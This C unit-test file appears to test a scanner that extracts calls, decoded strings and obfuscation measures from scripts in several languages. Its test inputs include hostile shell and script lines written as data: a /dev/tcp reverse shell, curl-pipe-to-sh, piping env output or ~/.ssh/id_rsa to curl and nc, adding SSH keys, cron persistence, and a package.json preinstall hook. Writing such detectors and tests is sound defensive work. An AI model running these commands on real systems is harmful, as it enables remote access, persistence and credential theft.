/* The fact "code": calls with their constants, texts that were made, numbers; hostile scripts; memory that runs out. */
#include "facts_case.h"

#include "facts/code.h"

/* "name(args)": "!" behind it: something was decoded; "<curl|tr": what it is given by; ">file", "<file", "=text" likewise. */
static char *calls_line(const json_t *facts)
{
	pb_buf line = {0};
	json_t *call;
	size_t i;

	json_array_foreach (at(facts, "code", "calls", NULL), i, call) {
		char *args = pb_json_canonical(json_object_get(call, "args"));
		size_t n = strlen(args);
		pb_buf_printf(&line, "%s%s(%.*s)%s", i ? " " : "", pb_json_str(call, "name", "?"), (int)n - 2, args + 1,
		              json_is_true(json_object_get(call, "decoded")) ? "!" : "");
		static const struct {
			const char *key, *sign;
		} more[] = {{"from", "<"}, {"to", ">"}, {"reads", " < "}, {"input", "="}};
		for (size_t k = 0; k < sizeof more / sizeof more[0]; k++)
			if (json_object_get(call, more[k].key))
				pb_buf_printf(&line, "%s%s", more[k].sign, pb_json_str(call, more[k].key, "?"));
		free(args);
	}
	return line.data ? (char *)line.data : strdup("");
}

static void assert_calls(void **state, const char *kind, const char *text, const char *expected)
{
	json_t *facts = facts_of_text(state, text, "", kind);
	char *line = calls_line(facts);
	if (strcmp(line, expected) != 0)
		fail_msg("%s\n  instead of\n%s\n  in\n%s", line, expected, text);
	free(line);
	json_decref(facts);
}

static void assert_strings(void **state, const char *kind, const char *text, const char *expected)
{
	json_t *facts = facts_of_text(state, text, "", kind), *entry;
	pb_buf line = {0};
	size_t i;
	json_array_foreach (at(facts, "code", "strings", NULL), i, entry)
		pb_buf_printf(&line, "%s%s:%s", i ? " " : "", pb_json_str(entry, "is", "?"), pb_json_str(entry, "text", "?"));
	assert_string_equal(line.data ? (char *)line.data : "", expected);
	pb_buf_free(&line);
	json_decref(facts);
}

static void names_of_javascript(void **state)
{
	assert_calls(state, "javascript", "const cp = require('child_process'); cp.exec('id')", "child_process.exec(\"id\")");
	assert_calls(state, "javascript", "const {exec: run, spawn} = require('node:child_process'); run('a b'); spawn('c')",
	             "child_process.exec(\"a b\") child_process.spawn(\"c\")");
	assert_calls(state, "javascript", "import fs, {readFileSync as r} from 'fs'; r('/etc/x'); fs.rmSync('/y')",
	             "fs.readFileSync(\"/etc/x\") fs.rmSync(\"/y\")");
	assert_calls(state, "javascript", "import * as h from \"https\"\nh.get('u')", "https.get(\"u\")");
	assert_calls(state, "javascript", "require('child_process')['ex' + 'ec'](`ls`)", "child_process.exec(\"ls\")");
	assert_calls(state, "javascript", "process['mainModule'].require('child_process').execSync('x')",
	             "child_process.execSync(\"x\")");
	assert_calls(state, "javascript", "const e = eval; e('1'); window.eval('2'); \\u0065val('3'); (0, eval)('4')",
	             "eval(\"1\") eval(\"2\") eval(\"3\") eval(\"4\")");
	assert_calls(state, "javascript", "const x = require('fs').writeFile; x('/a', b, 3)", "fs.writeFile(\"/a\",false,3)");
	assert_calls(state, "typescript", "import { exec } from 'child_process';\nexec('ls' as string, () => 1)",
	             "child_process.exec(false,false)");
}

/* A name that could be two things is neither. */
static void names_that_are_not_known(void **state)
{
	assert_calls(state, "javascript", "const cp = require('child_process'); function f(cp) { cp.exec('id') }", "");
	assert_calls(state, "javascript", "let a = require('fs'); a = require('http'); a.get('x')", "");
	assert_calls(state, "javascript", "let u = 'a'; if (z) u = 'b'; eval(u)", "eval(false)");
	assert_calls(state, "javascript", "let u = 'a'; u += 'b'; eval(u)", "eval(false)");
	assert_calls(state, "javascript", "for (const u of list) eval(u); (u) => u", "eval(false)");
	assert_calls(state, "javascript", "eval(x ? 'a' : 'b'); eval('a' + x); eval(`a${x}`)", "eval(false)");
	assert_calls(state, "javascript", "// eval('a')\n/* eval('b') */ 'eval(1)'; /eval('c')/; class A { eval(x) { } }", "");
	assert_calls(state, "python", "def f(x='a'): exec(x)\nexec(y) if z else 1\ng(x=1)\n", "exec(false)");
}

static void what_is_undone(void **state)
{
	assert_calls(state, "javascript", "eval(atob('YWxlcnQoMSk='))", "eval(\"alert(1)\")!");
	assert_calls(state, "javascript", "const k = 'YWxl' + 'cnQoMSk'; eval(Buffer.from(k, 'base64').toString('utf8'))",
	             "eval(\"alert(1)\")!");
	assert_calls(state, "javascript", "eval(String.fromCharCode(0x61, 98) + '\\x63\\u0064\\u{65}\\146')",
	             "eval(\"abcdef\")!");
	assert_calls(state, "javascript", "eval('cba'.split('').reverse().join(''))", "eval(\"abc\")!");
	assert_calls(state, "javascript", "eval(['a', 'b', 'c'].join('-')); eval(unescape('%61%u0062'))",
	             "eval(\"a-b-c\") eval(\"ab\")!");
	assert_calls(state, "javascript", "eval(Buffer.from([104, 105])); eval(Buffer.from('6869', 'hex'))", "eval(\"hi\")!");
	assert_calls(state, "javascript", "const a = ['x', 'y']; eval(a[1]); eval(a[2]); eval('axb'.replace('x', '.'))",
	             "eval(\"y\") eval(false) eval(\"a.b\")!");
	assert_calls(state, "python", "exec(__import__('base64').b64decode('aGk='))", "exec(\"hi\")!");
	assert_calls(state, "python", "import base64 as b\nfrom os import system as s\ns(b.b64decode(b'aGk=').decode())",
	             "os.system(\"hi\")!");
	assert_calls(state, "python", "exec(''.join(map(chr, [104, 105])))\nexec(bytes.fromhex('6869'))\nexec('ih'[::-1])",
	             "exec(\"hi\")!");
	assert_calls(state, "python", "exec('a' \"b\" r'\\x' '''c''')", "exec(\"ab\\\\x5cxc\")");
	assert_calls(state, "python", "getattr(__import__('os'), 'sys' + 'tem')('id')", "os.system(\"id\")");
	assert_calls(state, "python", "import codecs\nexec(codecs.decode('uv', 'rot13'))\nexec(f'{x}')",
	             "exec(\"hi\")! exec(false)");
	assert_calls(state, "php",
	             "<?php $f = 'sys'.'tem'; $f(\"id\"); eval(base64_decode('aGk=')); eval(strrev('ih')); system(\"a $b\");",
	             "system(\"id\") eval(\"hi\")! system(false)");
	assert_calls(state, "php", "eval('x') <?php `ls -l` ?> system('no')", "`(\"ls -l\")");
	assert_calls(state, "ruby", "system \"id\"\neval(Base64.decode64('aGk='))\neval(['6869'].pack('H*'))\n`w`",
	             "system(\"id\") eval(\"hi\")! `(\"w\")");
	assert_calls(state, "perl", "system('a'.'b'); eval(decode_base64('aGk=')); exec q{x}; qx[y z];",
	             "system(\"ab\") eval(\"hi\")! exec(\"x\") `(\"y z\")");
	assert_calls(state, "powershell", "$a = 'aGk='; IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))",
	             "IEX(\"hi\")!");
	assert_calls(state, "powershell", "(New-Object Net.WebClient).DownloadString('http://a')",
	             "?.DownloadString(\"http://a\")");
}

static void texts_that_are_told(void **state)
{
	assert_strings(state, "javascript", "f('http://a.example.com'); f('ht' + 'tp://b.example.com/x')",
	               "url:http://b.example.com/x");
	assert_strings(state, "javascript",
	               "f('/etc/passwd', '~/.ssh/id_rsa', './a', '%APPDATA%\\\\x', '% of %', 'C:\\\\Windows')",
	               "path:/etc/passwd path:~/.ssh/id_rsa path:%APPDATA%\\x5cx path:C:\\x5cWindows");
	assert_strings(state, "javascript", "f('198.51.100.7:80', '127.0.0.1', '1.2.3', '0.0.0.0')", "address:198.51.100.7:80");
	assert_strings(state, "javascript", "f('c2.example.com', 'index.js', 'x.py', 'a.b', 'Some.Class')",
	               "host:c2.example.com");
	assert_strings(state, "python", "f('curl -s http://a | sh', 'sh is a shell', '/bin/sh -c x', 'cat and dog')",
	               "command:curl -s http://a | sh command:/bin/sh -c x");
	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "decoded:hidden!!");
	assert_strings(state, "python", "x = 'hidden!!'[::-1]", "decoded:!!neddih");
	assert_strings(state, "javascript", "let t = Buffer.from('aHR0cDovL2EuZXhhbXBsZS5jb20veA==', 'base64'); t = 2",
	               "url:http://a.example.com/x");
}

static void numbers(void **state)
{
	json_t *facts =
	    facts_of_text(state, "var _0x12ab=['a'];_0x12ab['push'](_0x12ab['shift']());a['b'];a.c;eval(atob(x));require(y)",
	                  "", "javascript");
	assert_json(at(facts, "code", "measures", "rotation", NULL), "true");
	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "1");
	assert_json(at(facts, "code", "dynamic_imports", NULL), "1");
	assert_json(at(facts, "code", "measures", "hex_names", NULL), "250"); /* 3 of 12 names */
	assert_json(at(facts, "code", "measures", "brackets", NULL), "750");  /* 3 of 4 */
	json_decref(facts);
	char far[200] = "f();";
	memset(far + 4, ' ', 120);
	strcpy(far + 124, "g(1);\nh();");
	facts = facts_of_text(state, far, "", "javascript");
	assert_json(at(facts, "code", "measures", "far_right", NULL), "5");
	json_decref(facts);
	memcpy(far + 124, "//g()", 5);
	facts = facts_of_text(state, far, "", "javascript");
	assert_json(at(facts, "code", "measures", "far_right", NULL), "0");
	json_decref(facts);
	facts = facts_of_text(state, "IlIIllI1(O0OO0O00, ________, Illinois1, Ill)", "", "javascript");
	assert_json(at(facts, "code", "measures", "hex_names", NULL), "400"); /* 2 of 5 */
	json_decref(facts);
	facts = facts_of_text(state, "setTimeout(function () { x = atob(y); eval(z) }, 9)", "", "javascript");
	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "0");
	json_decref(facts);
	facts = facts_of_text(state, "f('\\x61\\x62'); f(process.env.NPM_TOKEN, process.env['HOME'])", "", "javascript");
	assert_json(at(facts, "code", "measures", "escapes", NULL), "500"); /* 8 of 16 bytes */
	assert_json(at(facts, "code", "measures", "longest_string", NULL), "10");
	assert_json(at(facts, "code", "environment", NULL), "[\"HOME\",\"NPM_TOKEN\"]");
	json_decref(facts);
	facts = facts_of_text(state, "", "", "javascript");
	assert_null(at(facts, "code", NULL));
	json_decref(facts);
	facts = facts_of_text(state, "eval('a')", "", "text");
	assert_null(at(facts, "code", NULL));
	json_decref(facts);
}

static void shell_words(void **state)
{
	assert_calls(state, "shell", "A=http://a.example.com; B=\"$A/x\"\ncurl -s \"${B}\" $C 'q r' d\\ e",
	             "curl(\"-s\",\"http://a.example.com/x\",\"$C\",\"q r\",\"d e\")");
	assert_calls(state, "shell", "A=1; A=2; export B=b; curl $A $B # curl c\n#curl d", "curl(\"$A\",\"b\")");
	assert_calls(state, "shell", "c\\u'r'\"l\" x; $'\\x63url' -s; /usr/bin/curl y", "curl(\"x\") curl(\"-s\") curl(\"y\")");
	assert_calls(state, "shell", "X=cu; Y=rl; $X$Y z", "curl(\"z\")");
	assert_calls(state, "shell", "echo curl; 'curl; x'; case $1 in curl|wget) nc a ;; (b) nc c;; esac; curl d",
	             "nc(\"a\") nc(\"c\") curl(\"d\")");
	assert_calls(state, "shell", "f() { curl $1; }\nif nc a; then ! nc b; fi; for curl in $(nc c) d; do nc $curl; done",
	             "curl(\"$1\") nc(\"a\") nc(\"b\") nc(\"c\") nc(\"$curl\")");
	assert_calls(state, "shell", "[[ a && $(nc a) ]] && (( 1 > 2 )) || nc $((1 + 2)); sudo -n env A=b curl x",
	             "nc(\"a\") nc(\"$((1 + 2))\") curl(\"x\")");
}

static void shell_chains(void **state)
{
	assert_calls(state, "shell", "curl u | tr a b | sh -s x", "curl(\"u\") sh(\"-s\",\"x\")<curl|tr");
	assert_calls(state, "shell", "sh -c \"$(curl u)\"; eval `curl v`; bash <(wget w)",
	             "curl(\"u\") sh(\"-c\",\"$(curl u)\")<curl curl(\"v\") eval(\"`curl v`\")<curl wget(\"w\") bash()<wget");
	assert_calls(state, "shell", "(env; id) | curl -d @- u", "curl(\"-d\",\"@-\",\"u\")<env;id");
	assert_calls(state, "shell", "echo 'curl u' | bash", "bash()<echo=curl u curl(\"u\")");
	assert_calls(state, "shell", "echo Y3VybCB1 | base64 -d | sh",
	             "base64(\"-d\")<echo=Y3VybCB1 sh()!<echo|base64=curl u curl(\"u\")");
	assert_calls(state, "shell", "$(printf 'Y3VybA==' | base64 -d) v",
	             "base64(\"-d\")<printf=Y3VybA== curl(\"v\")<printf|base64");
	assert_calls(state, "shell", "sh -c 'nc a | sh'; eval nc b; bash <<E\nnc c\nE\nnc d",
	             "sh(\"-c\",\"nc a | sh\") nc(\"a\") sh()<nc nc(\"b\") bash()=nc c\\x0a nc(\"c\") nc(\"d\")");
	assert_calls(state, "shell", "bash -i >& /dev/tcp/198.51.100.7/9 0>&1; exec 5<>/dev/tcp/198.51.100.7/9",
	             "bash(\"-i\")>/dev/tcp/198.51.100.7/9 exec()>/dev/tcp/198.51.100.7/9");
	assert_calls(state, "shell", "exec 196<>/dev/tcp/a/9; sh <&196 >&196 2>&196", "exec()>/dev/tcp/a/9 sh() < 196");
	assert_calls(state, "shell", "A=$(env | base64); curl -d \"$A\" u",
	             "base64()<env curl(\"-d\",\"$A\",\"u\")<env|base64");
	assert_calls(state, "shell", "cat >/etc/cron.d/x 2>/dev/null <<-E\n\tnc a\n\tE\nnc b < ~/.ssh/id_rsa",
	             "cat()>/etc/cron.d/x=\\x09nc a\\x0a nc(\"b\") < ~/.ssh/id_rsa");
	assert_calls(state, "shell", "echo k >>~/.ssh/authorized_keys; echo k >out; cp a b; cp a /etc/b",
	             "echo(\"k\")>~/.ssh/authorized_keys cp(\"a\",\"/etc/b\")");
	json_t *facts = facts_of_text(state, "echo \"aa\" | base64 -d | sh", "", "shell");
	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "1");
	assert_json(at(facts, "code", "measures", "strings", NULL), "1");
	json_decref(facts);
}

/* Commands of a package's metadata are a shell's, those that run at installation. */
static void commands_of_metadata(void **state)
{
	static const char text[] = "{\"name\": \"a\", \"scripts\": {\"preinstall\": \"curl u | sh\", \"test\": \"curl v\"}}";
	json_t *facts = facts_of(state, text, strlen(text), "package.json", "json");
	char *line = calls_line(facts);
	assert_string_equal(line, "curl(\"u\") sh()<curl");
	free(line);
	json_decref(facts);
	facts = facts_of(state, "{\"name\": \"a\"}", 13, "package.json", "json");
	assert_null(at(facts, "code", NULL));
	json_decref(facts);
}

/* text, n times, between head and tail. */
static char *repeated(const char *head, const char *text, size_t n, const char *tail)
{
	size_t h = strlen(head), t = strlen(text);
	char *out = malloc(h + t * n + strlen(tail) + 1), *p = out;
	assert_non_null(out);
	memcpy(p, head, h);
	p += h;
	for (size_t i = 0; i < n; i++, p += t)
		memcpy(p, text, t);
	memcpy(p, tail, strlen(tail) + 1);
	return out;
}

static json_t *facts_of_repeated(void **state, const char *kind, const char *head, const char *text, size_t n, const char *tail)
{
	char *source = repeated(head, text, n, tail);
	json_t *facts = facts_of_text(state, source, "", kind);
	free(source);
	return facts;
}

/* Nothing here may take longer than it is long, nest as deep as it is nested, or grow as it says. */
static void bombs(void **state)
{
	static const struct {
		const char *kind, *text;
		size_t n;
	} all[] = {
	    {"javascript", "f(", 100000},
	    {"javascript", "[", 200000},
	    {"javascript", "eval(atob(", 50000},
	    {"javascript", "a[", 100000},
	    {"javascript", "`${", 50000},
	    {"javascript", "a=>", 50000},
	    {"javascript", "function(", 50000},
	    {"javascript", "a.b", 100000},
	    {"javascript", "a=", 100000},
	    {"javascript", "({a:", 50000},
	    {"javascript", "'x'.split('')", 20000},
	    {"javascript", "['a',", 50000},
	    {"javascript", "require(", 50000},
	    {"javascript", "\\u", 100000},
	    {"python", "'a' ", 50000},
	    {"python", "getattr(", 50000},
	    {"python", "import a\n", 50000},
	    {"python", "from a import (", 20000},
	    {"python", "x='a'[::-1]\n", 20000},
	    {"php", "<?php $a.", 50000},
	    {"perl", "q{", 50000},
	    {"ruby", "'a'.reverse.", 20000},
	    {"powershell", "[char]", 50000},
	    {"python", "a\\\n", 50000},
	    {"shell", "$(", 50000},
	    {"shell", "`", 50001},
	    {"shell", "\"$(", 50000},
	    {"shell", "${a:-", 50000},
	    {"shell", "(", 50000},
	    {"shell", "<(", 50000},
	    {"shell", "a|", 50000},
	    {"shell", "cat <<E ", 20000},
	    {"shell", "cat <<E\n", 20000},
	    {"shell", "case a in ", 20000},
	    {"shell", "eval 'eval ", 20000},
	    {"shell", "A=$A$A; ", 20000},
	    {"shell", "echo a | ", 20000},
	    {"shell", "$((", 50000},
	    {"shell", "echo '", 50001},
	    {"shell", "sh -c \"", 50000},
	};
	for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
		json_decref(facts_of_repeated(state, all[i].kind, "", all[i].text, all[i].n, ""));
}

/* What is put in for names costs what it is long. */
static void values_that_grow(void **state)
{
	pb_buf text = {0};
	pb_buf_printf(&text, "A=0123456789abcdef\n");
	for (char c = 'B'; c < 'Z'; c++)
		pb_buf_printf(&text, "%c=$%c$%c\n", c, c - 1, c - 1);
	json_t *facts = facts_of_repeated(state, "shell", (char *)text.data, "curl $I$I\n", 100000, "curl end\n");
	assert_json(at(facts, "cut", NULL), "[\"code\"]");
	json_decref(facts);
	pb_buf_free(&text);
}

static void bounds(void **state)
{
	/* A chain of many parts is one text; one that is too long is none. */
	json_t *facts = facts_of_repeated(state, "javascript", "eval('/etc/'", " + 'ab'", 20000, ")");
	assert_int_equal(strncmp(json_string_value(at(facts, "code", "calls", "0", "args", "0", NULL)), "/etc/abab", 9), 0);
	assert_null(at(facts, "cut", NULL));
	json_decref(facts);
	facts = facts_of_repeated(state, "javascript", "eval('x'", " + 'abcdefghijklmnopqrstuvwxyz'", 20000, ")");
	assert_json(at(facts, "code", "calls", "0", "args", "0", NULL), "false");
	json_decref(facts);
	/* More calls than are told: the first ones, and the fact says so. */
	pb_buf many = {0};
	for (int i = 0; i < 300; i++)
		pb_buf_printf(&many, "eval('%d');", i);
	facts = facts_of_text(state, (char *)many.data, "", "javascript");
	assert_int_equal(json_array_size(at(facts, "code", "calls", NULL)), 100);
	assert_json(at(facts, "cut", NULL), "[\"code\"]");
	json_decref(facts);
	pb_buf_free(&many);
	/* One call however often it is made. */
	facts = facts_of_repeated(state, "javascript", "", "eval('a');", 1000, "");
	assert_int_equal(json_array_size(at(facts, "code", "calls", NULL)), 1);
	json_decref(facts);
	/* A deep expression is not read to its end, what stands behind it is. */
	facts = facts_of_repeated(state, "javascript", "eval(", "(", 5000, "");
	json_decref(facts);
	facts = facts_of_text(state, "f(g(h(\n}\neval('a')", "", "javascript");
	assert_json(at(facts, "code", "calls", "0", "args", NULL), "[\"a\"]");
	json_decref(facts);
}

static const char *const sources[][2] = {
    {"javascript",
     "import a,{b as c}from'm';const{d:e}=require('fs');eval(atob('YWxlcnQ='));x['a'+\"\\x41\"](`b`,[1,'c'].join(''))"
     ";`a${b}c`;/r/;String.fromCharCode(1,2);'a'.split('').reverse();\\u{65}val('/etc/x');process.env.X;(0,e)('1')"},
    {"python",
     "import os as o\nfrom a import (b as c)\nexec(b''.join(map(chr,[1,2]))[::-1])\ngetattr(o,'x')(r'y' '''z''' f'{q}')\n"},
    {"php", "a<?php $f='x';$f(base64_decode(\"aGk=\"));`l`;include 'q';pack('H*','41');implode('',array('a'));?>"},
    {"ruby", "system \"a\" 'b'\neval(['6869'].pack('H*'));'aGk='.unpack1('m');x=`id`\n"},
    {"perl", "my $x=q{a}.qq(b)x;exec $x;system('c');qx{d};=pod\n\n=cut\n"},
    {"powershell", "$a='b';IEX ([char]65+\"`n\");[C]::FromBase64String($a) <# x #> -join 'a'\n"},
    {"shell", "A=b;c $A ${A:-$(d|sh)} `e \"f$'\\x41'\"`>/etc/g <<H|sh -c 'i;j'\nk\nH\ncase l in m)n;;esac;(o)&p()\n"
              "{ q;};[[ r ]];((1));echo ZA==|base64 -d|sh;for s in t;do u;done <(v)\n"},
};

/* Each script, cut off behind each byte: bytes of exactly that length, so that a read past the end is seen. */
static void cut_off_anywhere(void **state)
{
	for (size_t i = 0; i < sizeof sources / sizeof sources[0]; i++)
		for (size_t n = 0; n <= strlen(sources[i][1]); n++) {
			char *exact = malloc(n ? n : 1);
			assert_non_null(exact);
			memcpy(exact, sources[i][1], n);
			json_decref(facts_of(state, exact, n, "", sources[i][0]));
			free(exact);
		}
}

void *__real_malloc(size_t n);
void *__real_calloc(size_t n, size_t size);
void *__real_realloc(void *p, size_t n);
void *__wrap_malloc(size_t n);
void *__wrap_calloc(size_t n, size_t size);
void *__wrap_realloc(void *p, size_t n);
static long left = -1; /* allocations until one fails; below zero: none does */

static bool fails(void)
{
	return left >= 0 && left-- == 0;
}

void *__wrap_malloc(size_t n)
{
	return fails() ? NULL : __real_malloc(n);
}

void *__wrap_calloc(size_t n, size_t size)
{
	return fails() ? NULL : __real_calloc(n, size);
}

void *__wrap_realloc(void *p, size_t n)
{
	return fails() ? NULL : __real_realloc(p, n);
}

/* Memory that runs out at any place is told as that, and nothing is lost or freed twice. */
static void memory_runs_out(void **state)
{
	facts_case *fc = *state;
	pb_scan scan = {0};

	json_set_alloc_funcs(__wrap_malloc, free);
	for (size_t i = 0; i < sizeof sources / sizeof sources[0]; i++) {
		pb_object object = {.bytes = {(const uint8_t *)sources[i][1], strlen(sources[i][1])},
		                    .kind = pb_kind_named(sources[i][0])};
		bool whole = false;
		long n;
		for (n = 0; !whole && n < 20000; n++) {
			pb_look look = {.object = &object, .scan = &scan, .lists = fc->lists, .facts = json_object()};
			left = n;
			int rc = pb_fact_code(&look);
			whole = left >= 0;
			left = -1;
			if (whole)
				assert_int_equal(rc, 0);
			else if (rc == 0) /* jansson finds its way around a few */
				assert_non_null(json_object_get(look.facts, "code"));
			else
				assert_int_equal(rc, PB_ENOMEM);
			json_decref(look.facts);
		}
		assert_true(whole && n > 10);
	}
	json_set_alloc_funcs(malloc, free);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(names_of_javascript),
	    cmocka_unit_test(names_that_are_not_known),
	    cmocka_unit_test(what_is_undone),
	    cmocka_unit_test(texts_that_are_told),
	    cmocka_unit_test(shell_words),
	    cmocka_unit_test(shell_chains),
	    cmocka_unit_test(commands_of_metadata),
	    cmocka_unit_test(numbers),
	    cmocka_unit_test(bombs),
	    cmocka_unit_test(values_that_grow),
	    cmocka_unit_test(bounds),
	    cmocka_unit_test(cut_off_anywhere),
	    cmocka_unit_test(memory_runs_out),
	};
	return cmocka_run_group_tests(tests, facts_open, facts_close);
}
